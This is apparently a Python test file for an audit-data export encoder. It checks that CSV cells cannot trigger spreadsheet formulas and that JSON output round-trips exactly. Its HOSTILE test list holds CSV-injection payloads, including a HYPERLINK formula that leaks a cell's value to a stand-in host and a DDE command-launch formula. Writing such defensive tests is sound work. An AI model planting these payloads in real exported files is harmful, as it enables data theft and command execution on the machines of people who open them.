"""The exports' one encoder (``lorapool.audit_export``): CSV read back by Python's csv
module, JSON and JSON Lines by orjson; formula cells neutralised for a reader splitting
on any separator, nothing else changed."""

import csv
import io
import re

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lorapool.audit_export import CHUNK_BYTES, FORMULA_START, encode, encode_all

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "X;=1+1;x",  # issue 51 row 9: a ;-separated locale reads the middle cell as a formula
    "a,@SUM(1)",
    "a\t+1",
    "a|-1",
    'x" =1',
    "line\n=1+1",
    "a\x85b\u2028c\u2029d",  # a line's end to str.splitlines, valid raw in JSON
]
cells = st.one_of(
    st.none(),
    st.integers(-(2**53), 2**53),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(),
    st.sampled_from(HOSTILE),
    st.lists(st.integers(0, 2**31 - 1), max_size=5),
)


def _read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _no_cell_starts_a_formula(data: bytes) -> None:
    """Whatever a spreadsheet splits the file on (a separator of any locale, a line
    break, a quote it does not honour), no piece it could read as a cell starts with
    a formula character, numbers apart."""
    for piece in re.split('[,;\t|\r\n"]', data.decode()):
        text = piece.lstrip(" ")
        assert not text.startswith(FORMULA_START) or _is_number(text), (piece, data)


def _only_quotes_added(cell: str, value: str) -> None:
    assert cell.replace("'", "") == value.replace("'", ""), (cell, value)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.fixed_dictionaries({"a": cells, "b": cells, "text": st.text()}), max_size=8))
def test_csv_cells_read_back_as_written_or_neutralised(rows):
    data = encode_all(rows, "csv")
    _no_cell_starts_a_formula(data)
    parsed = _read_csv(data)
    assert len(parsed) == len(rows)
    for row, back in zip(rows, parsed):
        for key, value in row.items():
            cell = back[key]
            assert not cell.startswith(FORMULA_START) or isinstance(value, (int, float))
            if value is None:
                assert cell == ""
            elif isinstance(value, str):
                _only_quotes_added(cell, value)
                if not value.startswith(FORMULA_START) and not re.search('[-,;\t|\r\n"=+@]', value):
                    assert cell == value  # plain text untouched
            elif isinstance(value, list):
                assert orjson.loads(cell.replace("'", "")) == value
            else:
                assert float(cell) == value  # numbers stay numbers, -1.5 included


@pytest.mark.parametrize("hostile", HOSTILE)
def test_every_formula_prefix_is_neutralised(hostile):
    data = encode_all([{"prompt": hostile, "logprob": -1.5}], "csv")
    _no_cell_starts_a_formula(data)
    [row] = _read_csv(data)
    _only_quotes_added(row["prompt"], hostile)
    assert row["logprob"] == "-1.5"


def test_every_text_cell_is_quoted_and_numbers_are_not():
    data = encode_all([{"prompt": "X;=1+1;x", "n": 3, "logprob": -1.5, "none": None}], "csv")
    assert data.splitlines()[1] == b'"X;\'=1+1;x",3,-1.5,""'
    for sep in ";\t|":  # a locale's reader: the quoted cell whole, or split with no formula
        [row] = list(csv.reader(io.StringIO(data.decode().splitlines()[1]), delimiter=sep))
        assert not [cell for cell in row if cell.lstrip(' "').startswith("=")], row


@settings(max_examples=100, deadline=None)
@given(st.lists(st.fixed_dictionaries({"a": cells, "text": st.text()}), max_size=8))
def test_json_and_json_lines_are_exact(rows):
    assert orjson.loads(encode_all(rows, "json")) == rows
    lines = encode_all(rows, "jsonl").decode().splitlines()  # U+2028 and kin escaped
    assert [orjson.loads(line) for line in lines] == rows


def test_output_comes_in_bounded_chunks():
    rows = ({"i": i, "text": "x" * 500} for i in range(2000))  # ~1 MB, a generator
    for fmt in ("csv", "json", "jsonl"):
        chunks = list(encode(rows if fmt == "csv" else iter(list(rows)), fmt))
        rows = ({"i": i, "text": "x" * 500} for i in range(2000))
        assert max(map(len, chunks)) < CHUNK_BYTES + 4096
    with pytest.raises(ValueError, match="format must be one of"):
        encode_all([], "xml")
